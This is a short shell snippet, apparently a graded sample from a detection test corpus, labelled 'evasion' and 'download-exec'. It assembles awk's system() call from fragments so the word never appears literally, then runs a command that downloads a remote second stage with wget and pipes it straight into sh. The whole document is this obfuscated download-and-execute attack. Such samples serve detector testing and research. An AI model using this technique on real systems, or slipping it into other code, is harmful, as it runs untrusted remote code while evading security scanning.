# evasion: the awk program is assembled by printf from a function's words, so system() never appears literally
# grade: hard; does: download-exec
verb() { printf '%s%s' sys tem; }
stage="wget -qO- http://203.0.113.32/s2 | sh"
prog=$(printf 'BEGIN { %s("%s") }' "$(verb)" "$stage")
awk "$prog"
